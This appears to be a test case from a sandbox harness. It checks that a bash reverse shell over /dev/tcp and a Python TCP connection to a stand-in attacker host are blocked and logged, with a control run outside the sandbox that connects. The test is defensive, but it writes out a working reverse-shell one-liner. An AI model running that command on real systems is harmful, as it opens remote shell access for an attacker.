# attack: net/reverse-shell
# boundary: network
# profile: shell
# modes: root rootless
# requires: bash
# seeds: 000-network 004-reverse-shell
# what: the reverse shell of every cheat sheet: bash -i with its streams
#   on /dev/tcp to an attacker's host (198.51.100.7:4444, a test host in a
#   namespace of the harness), then the same from python
#   (socket.create_connection)
# expect: both fail (bash: cannot connect; python: EAFNOSUPPORT, the
#   profile's seccomp refuses AF_INET sockets), the attacker's host sees
#   no packet and no connection, and the report has the attempts (refused
#   TCP sockets of IPv4, recorded by the broker)
# control: the same bash command outside the sandbox, as the sandbox's
#   host user, in the same network namespace, connects: the test host
#   logs the connection and its packets
# if it fails: the network namespace (net none: loopback only;
#   launcher/core/ns.c clone3 flags), the profile's socket rule (AF_UNIX only)

attack() {
	local seen
	put revshell.sh <<'SH'
if bash -c "exec bash -i >& /dev/tcp/$1/$2 0>&1 </dev/null" 2>/dev/null; then
	echo "bash connected"
else
	echo "bash failed"
fi
python3 - "$1" "$2" <<'PY'
import errno, socket, sys
try:
    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2)
    print("python connected")
except OSError as e:
    print("python", errno.errorcode.get(e.errno, e))
PY
SH
	net_note
	sbx -- bash /input/revshell.sh "$ADDR_ATTACKER" 4444
	net_sync
	seen=$(net_seen)
	check "bash failed; $(why)" so_has "bash failed"
	check "python: EAFNOSUPPORT; $(why)" so_has "python EAFNOSUPPORT"
	check "nothing reached the test hosts: $seen" test -z "$seen"
	check "the attempts are on the record; $(jq -c '.denials.network' "$REP" 2>/dev/null | head -c 300)" \
		report_has '[.denials.network[] | select(.call == "socket" and .family == "ipv4" and .protocol == "tcp" and .errno == "EAFNOSUPPORT") | .count] | add >= 2'
	net_note
	outside -- bash "$IN/revshell.sh" "$ADDR_ATTACKER" 4444
	net_sync
	seen=$(net_seen)
	control "outside, the attacker's host sees the connection; $(cwhy); $seen" \
		grep -q "^net: conn 4444 " <<<"$seen"
}
